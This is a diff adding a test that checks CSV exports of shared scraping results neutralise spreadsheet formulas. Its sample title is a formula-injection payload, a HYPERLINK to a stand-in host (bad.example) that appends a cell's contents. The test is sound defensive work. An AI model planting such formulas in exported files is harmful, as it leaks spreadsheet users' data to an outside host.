@@ -71,6 +71,21 @@ describe('shared results', () => {
       expect([guess, (await visit(`https://quarry.example/s/${guess}`)).statusCode]).toEqual([guess, 404])
   })
 
+  it('come as CSV that no spreadsheet program computes, whatever the pages said', async () => {
+    const user = await test.signIn('starter')
+    const { id: jobId } = (await user.call('POST', '/jobs/', makeJobPayload())).json()
+    const title = '=HYPERLINK("https://bad.example/?"&A2,"Open")'
+    await completeTask(test.database.db, jobId, { position: 0, data: { title, price: -12.5 } })
+    const { url } = await share(user, jobId)
+    for (const address of ['/results', '/results?format=csv', '/results?format=nonsense']) {
+      const { body, headers } = await visit(url, address)
+      expect(body.startsWith('\uFEFF')).toBe(true)
+      expect(body).toContain(`"'${title.replaceAll('"', '""')}"`)
+      expect(body).toMatch(/,-12\.5(?:,|\r|$)/)
+      expect(headers['content-disposition']).toBe('attachment; filename="results-spreadsheet.csv"')
+    }
+  })
+
   it('end by themselves after the days they were made for, for everybody and in the list', async () => {
     const user = await test.signIn('starter')
     const jobId = await runJob(user)
